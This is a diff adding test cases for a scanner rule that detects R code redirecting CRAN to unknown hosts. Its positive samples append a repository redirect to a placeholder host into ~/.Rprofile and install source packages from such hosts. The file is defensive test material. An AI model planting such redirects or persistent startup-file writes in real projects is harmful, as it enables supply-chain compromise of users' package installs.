@@ -219,6 +219,61 @@ describeRuleCases('supply-chain', [
   },
 ]);
 
+describeRuleCases('supply-chain (R repositories)', [
+  {
+    // CRAN moved to an unknown host and written into the user's startup file for every later session.
+    id: 'SG-SUPPLY-016',
+    positive: sh(
+      'echo \'options(repos = c(CRAN = "https://cran.stats-pkgs.example"))\' >> ~/.Rprofile\nRscript -e \'install.packages("dplyr")\'',
+    ),
+    // The same line with a CRAN mirror the user may pick (an academic network's).
+    negative: sh(
+      'echo \'options(repos = c(CRAN = "https://mirrors.tuna.tsinghua.edu.cn/CRAN/"))\' >> ~/.Rprofile\nRscript -e \'install.packages("dplyr")\'',
+    ),
+  },
+  {
+    // The "mirror" given by name also serves a package file installed around the index.
+    id: 'SG-SUPPLY-016',
+    file: 'R/setup.R',
+    positive:
+      'repo <- "https://r-builds.example.net"\noptions(repos = c(CRAN = repo))\ninstall.packages(paste0(repo, "/src/contrib/helper_1.0.tar.gz"), repos = NULL, type = "source")\n',
+    negative:
+      'repo <- "https://cloud.r-project.org"\noptions(repos = c(CRAN = repo))\ninstall.packages(paste0(repo, "/src/contrib/Archive/helper/helper_1.0.tar.gz"), repos = NULL, type = "source")\n',
+  },
+]);
+
+describe('SG-SUPPLY-016 severity', () => {
+  const sev = (text: string, file = 'R/setup.R') =>
+    findingsOf(text, file).find((f) => f.rule_id === 'SG-SUPPLY-016')?.severity;
+
+  it('should rate an unknown repository set for the session alone MEDIUM', () => {
+    expect(
+      sev('options(repos = c(CRAN = "https://rspm.corp.example/cran/latest"))\ninstall.packages("dplyr")\n'),
+    ).toBe('MEDIUM');
+    expect(sev('options(repos = c(CRAN = "https://packagemanager.posit.co/cran/latest"))\n')).toBeUndefined();
+  });
+
+  it('should rate a startup-file write through a bound name HIGH', () => {
+    expect(
+      sev(
+        'mirror <- "https://cran.stats-pkgs.example"\noptions(repos = c(CRAN = mirror))\nrp <- file.path(Sys.getenv("HOME"), ".Rprofile")\ncat(sprintf(\'options(repos = c(CRAN = "%s"))\', mirror), file = rp, append = TRUE)\n',
+      ),
+    ).toBe('HIGH');
+  });
+
+  const MiB = 1024 * 1024;
+  it.each([
+    ['named repositories', 'x <- "https://a.example"\n' + 'repos = a1\n'.repeat(MiB / 11)],
+    ['distinct names', Array.from({ length: MiB / 16 }, (_, i) => `repos = n${i}\n`).join('')],
+    ['long repository lines', 'CRAN = '.repeat(MiB / 7)],
+    ['install calls', 'repos = "https://a.example"\n' + 'install.packages('.repeat(MiB / 17)],
+  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'R/x.R');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
 describe('SG-SUPPLY-011 severity', () => {
   const sev = (text: string, file = 'Editor/Feeds.cs') =>
     findingsOf(text, file).find((f) => f.rule_id === 'SG-SUPPLY-011')?.severity;
